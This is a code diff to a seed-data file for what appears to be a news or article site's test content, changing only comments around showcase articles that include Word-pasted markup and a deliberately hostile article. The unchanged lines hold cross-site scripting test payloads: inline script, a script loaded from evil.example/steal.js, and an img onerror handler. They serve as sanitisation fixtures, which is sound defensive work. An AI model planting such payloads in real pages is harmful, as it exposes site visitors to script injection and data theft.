@@ -824,7 +824,7 @@ const wordChinese = `<!--[if gte mso 9]><xml>
 <p class="MsoNormal" style="border:none;border-top:solid windowtext .5pt;padding:1.0pt 0cm 0cm 0cm"><span style="font-size:9.0pt;font-family:宋体">本简讯仅供一般参考。咨询邮箱：<span lang="EN-US"><a href="mailto:corporate@harcourt-lin.example"><span style="color:#0563C1">corporate@harcourt-lin.example</span></a></span><span lang="EN-US"><o:p></o:p></span></span></p>
 <!--EndFragment-->`;
 
-/** N-0106: hostile markup among harmless paragraphs; whatever of it ran would set `window.__pwned`. */
+/** N-0106: hostile markup among harmless paragraphs; a script that runs sets `window.__pwned`. */
 const hostileEnglish = `<p>The message arrives on a Friday afternoon. It comes from the supplier’s usual contact, quotes the right invoice, and says that the bank account has changed. The accounts department, anxious to help before the weekend, pays. On Monday the real supplier asks where the money is. Business e-mail compromise needs no broken password on your side, and it is now the fraud that our clients report most often.</p>
 <script>window.__pwned = true;</script>
 <script src="https://evil.example/steal.js"></script>
@@ -948,8 +948,8 @@ const hostileChinese = `<p>邮件总在星期五下午抵达：发件人是供�
 <textarea hidden></textarea><img src=x onerror=window.__pwned=true alt="">`;
 
 /**
- * Six news groups, N-0101 to N-0106, that show what article pages and editors have to bear:
- * great length, a wide table, figures, deep lists, Word residue and hostile markup (D39).
+ * Six news items, N-0101 to N-0106, with content that is hard to render and to edit: great length,
+ * a wide table, figures, deep lists, text pasted from Word and hostile markup (D39).
  */
 export const showcaseSeeds: ArticleSeed[] = [
   handbookSeed,
